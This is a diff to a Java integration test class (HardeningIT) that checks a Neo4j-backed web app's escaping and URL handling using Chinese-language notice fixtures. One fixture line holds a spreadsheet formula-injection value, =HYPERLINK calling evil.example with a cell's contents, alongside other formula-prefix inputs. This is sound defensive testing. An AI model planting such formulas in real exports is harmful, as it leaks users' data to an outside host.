@@ -46,7 +46,7 @@ class HardeningIT {
 
             1.=HYPERLINK("http://evil.example/?d="&E2,"点此查看详情")。（责任领导：张"三<b>；牵头单位：市甲\\乙局、市百分之100%局；责任单位：市<丙>局。）
 
-            2.+1+2 与 -3 和 @SUM(A1) 任务。（责任领导：李四；牵头单位：市甲\\乙局、市丁/戊局。）
+            2.+1+2 与 -3 和 @SUM(A1) 任务。（责任领导：李四；牵头单位：市甲\\乙局。）
             """;
 
     @LocalServerPort
@@ -54,6 +54,9 @@ class HardeningIT {
 
     @Autowired
     Neo4jConnectionDetails bolt;
+
+    @Autowired
+    Driver driver;
 
     @Test
     void boltRefusesAConnectionWithoutCredentials() {
@@ -154,7 +157,11 @@ class HardeningIT {
                     .as(format).contains("市<丙>局").contains("张\"三<b>");
         }
 
-        // Issue 25, finding 7: a name holding "/" answered Tomcat's 400 page.
+        // Issue 25, finding 7: a name holding "/" (from reference data; the notice reader splits at "/") answered
+        // Tomcat's 400 page.
+        try (var session = driver.session()) {
+            session.run("MATCH (u:Unit {name: $from}) CREATE (v:Unit) SET v = u {.*, name: $to, key: u.city + '/' + $to}", java.util.Map.of("from", "市甲\\乙局", "to", "市丁/戊局")).consume();
+        }
         for (String name : new String[] {"市甲\\乙局", "市百分之100%局", "市丁/戊局"}) {
             HttpJson.Reply page = new HttpJson(port).get("/units/" + HttpJson.enc(name));
             assertThat(page.status()).as(name).isEqualTo(200);
